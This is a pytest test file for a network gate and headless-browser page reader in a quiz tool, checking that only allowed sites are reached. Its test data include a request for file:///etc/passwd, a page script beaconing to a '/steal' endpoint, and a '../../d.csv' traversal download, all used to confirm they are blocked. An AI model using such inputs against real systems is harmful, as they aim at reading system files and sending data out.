from __future__ import annotations

import asyncio
import socket
from pathlib import Path

import httpx
import pytest

from quizlog_tui.webquiz.demo_server.web import quiz_server
from quizlog_tui.webquiz.net.address import Allowed, allowed_for
from quizlog_tui.webquiz.net.gate import gate, through
from quizlog_tui.webquiz.page.browser import Browser, NotRenderedError
from quizlog_tui.webquiz.page.page import read_page
from tests.webquiz.conftest import open_contexts, shares_browser
from tests.webquiz.small_site import small_site

HERE = ("127.0.0.1", "localhost")


async def test_an_allowed_site_is_reached_and_others_are_not() -> None:
    with quiz_server() as own, quiz_server() as other:
        async with gate(allowed_for(own.url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(f"{own.url}/files/q23.json")).json()["dataset"] == 25000
            assert (await http.get(f"{other.url}/files/q23.json")).status_code == 403
            assert (await http.get(f"{other.url}/files/q12.csv")).status_code == 403
        assert other.hits == []
        assert len(way_out.refused) == 1


async def test_private_addresses_are_refused_though_their_site_is_allowed() -> None:
    with quiz_server() as server:
        async with gate(allowed_for(server.url)) as way_out, through(way_out.url) as http:
            assert (await http.get(server.first())).status_code == 403
        assert server.hits == []
        assert "private address" in way_out.refused[0]


async def test_a_name_that_leads_to_a_private_address_is_refused() -> None:
    with quiz_server() as server:
        url = server.url.replace("127.0.0.1", "localhost")
        async with gate(allowed_for(url)) as way_out, through(way_out.url) as http:
            assert (await http.get(url)).status_code == 403
        assert server.hits == []


async def test_redirects_are_let_through_to_allowed_sites_only() -> None:
    with (
        quiz_server() as other,
        small_site(
            {
                "/go": ("redirect", f"{other.url}/steal"),
                "/home": ("redirect", "/x"),
                "/x": ("html", "here"),
            }
        ) as site,
    ):
        async with gate(allowed_for(site.url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(f"{site.url}/home")).text == "here"
            assert (await http.get(f"{site.url}/go")).status_code == 403
        assert other.hits == []


async def test_tunnels_are_for_allowed_sites_only() -> None:
    async with gate(allowed_for("https://quiz.site")) as way_out, through(way_out.url) as http:
        with pytest.raises(httpx.ProxyError):
            await http.get("https://elsewhere.site/")
        assert way_out.refused == ["elsewhere.site:443: not an allowed site"]


@pytest.mark.parametrize(
    "sent",
    [
        b"nonsense\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET file:///etc/passwd HTTP/1.1\r\n\r\n",
        b"x" * 100_000,
    ],
)
async def test_nonsense_is_no_way_through(sent: bytes) -> None:
    async with gate(allowed_for("https://quiz.site")) as way_out:
        host, port = way_out.url.removeprefix("http://").split(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(sent)
        writer.write_eof()
        try:
            said = await reader.read()
        except ConnectionError:
            said = b""
        writer.close()
        assert not said or said.startswith(b"HTTP/1.1 403")


async def test_a_server_that_is_not_there_is_no_refusal() -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{free.getsockname()[1]}/"
        async with gate(allowed_for(url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(url)).status_code == 502
        assert way_out.refused == []


PAGE = """<p>Question. POST the answer to /submit</p>
<img src="{other}/a.png"><iframe src="{other}/frame"></iframe><script src="{other}/x.js"></script>
<script>
fetch("{other}/steal").catch(() => 0); navigator.sendBeacon("{other}/steal", "x");
new WebSocket("{ws}/steal"); fetch("/away").catch(() => 0);
</script>"""


@shares_browser
async def test_a_page_reaches_no_other_site_in_a_browser(
    shared_browser: Browser, tmp_path: Path
) -> None:
    with quiz_server() as other:
        html = PAGE.replace("{other}", other.url).replace("{ws}", other.url.replace("http", "ws"))
        pages = {
            "/p": ("html", html),
            "/away": ("redirect", f"{other.url}/steal"),
            "/gone": ("redirect", f"{other.url}/q05-table"),
        }
        with small_site(pages) as site:
            async with (
                gate(allowed_for(site.url, (), HERE)) as way_out,
                shared_browser.tab(way_out, tmp_path, 10**6) as tab,
            ):
                snapshot = await tab.visit(f"{site.url}/p")
                assert "Question" in snapshot.frames[0].text
                assert (await tab.visit(f"{site.url}/gone")).status == 403
        assert other.hits == []
        assert way_out.refused


LATE = """<div id=a></div><script>setTimeout(() => { a.innerText = "Late: post your answer" }, 800)</script>"""
CLOSED = """<div id=h></div><script>h.attachShadow({mode: "closed"}).innerHTML = "<p>Closed: submit 5</p>"</script>"""
FRAMED = """<iframe srcdoc="<p>Framed: submit 6</p>"></iframe>"""
HIDDEN = """<p>Intro</p><button onclick="q.hidden=false">Show question</button>
<button onclick="fetch('/sent',{method:'POST'})">Submit</button><p id=q hidden>Revealed: submit 7</p>"""
POLL = """<p>Polling: submit 8</p><script>fetch("/never")</script>"""
DOWN = """<p>Down: submit 9</p><script>const a=document.createElement("a");
a.href=URL.createObjectURL(new Blob(["x,y"]));a.download="../../d.csv";document.body.append(a);a.click()</script>"""
ALERT = """<script>alert("hello")</script><p>Alert: submit 10</p>"""


WAYS = {
    "Late": LATE, "Closed": CLOSED, "Framed": FRAMED, "Revealed": HIDDEN, "Polling": POLL,
    "Down": DOWN, "Alert": ALERT,
}  # fmt: skip


@shares_browser
async def test_whatever_way_a_page_shows_its_question_it_is_read(
    shared_browser: Browser, tmp_path: Path
) -> None:
    async def read(said: str, url: str, allowed: Allowed) -> str:
        folder = tmp_path / said
        folder.mkdir()
        async with gate(allowed) as way_out, shared_browser.tab(way_out, folder, 10**6) as tab:
            return read_page(await tab.visit(url), allowed).question

    pages = {f"/{said}": ("html", html) for said, html in WAYS.items()}
    with small_site(pages | {"/never": ("hang", "")}) as site:
        allowed = allowed_for(site.url, (), HERE)
        reading = (read(said, f"{site.url}/{said}", allowed) for said in WAYS)
        for said, question in zip(WAYS, await asyncio.gather(*reading), strict=True):
            assert said in question
        assert "/sent" not in site.hits
    assert [path.read_text() for path in tmp_path.glob("*/*")] == ["x,y"]
    assert open_contexts(shared_browser) == 0


@shares_browser
async def test_a_page_that_never_comes_is_given_up(shared_browser: Browser, tmp_path: Path) -> None:
    with small_site({"/p": ("hang", "")}) as site:
        async with (
            gate(allowed_for(site.url, (), HERE)) as way_out,
            shared_browser.tab(way_out, tmp_path, 10**6, seconds=0.5) as tab,
        ):
            with pytest.raises(NotRenderedError):
                await tab.visit(f"{site.url}/p")


async def test_no_answer_is_sent_on_a_connection_that_is_just_being_closed() -> None:
    with small_site({"http://quiz.site/submit": ("once", "here")}) as proxy:
        async with through(proxy.url) as http:
            for _ in range(2):
                assert (await http.post("http://quiz.site/submit")).text == "here"


async def test_a_question_is_asked_again_when_the_line_breaks_and_a_submission_is_not() -> None:
    with small_site({"/file": ("drop", "here"), "/submit": ("drop", "here")}) as site:
        async with gate(allowed_for(site.url, (), HERE)) as way_out, through(way_out.url) as http:
            assert (await http.get(f"{site.url}/file")).text == "here"
            with pytest.raises(httpx.RemoteProtocolError):
                await http.post(f"{site.url}/submit")
    assert site.hits == ["/file", "/file", "/submit"]
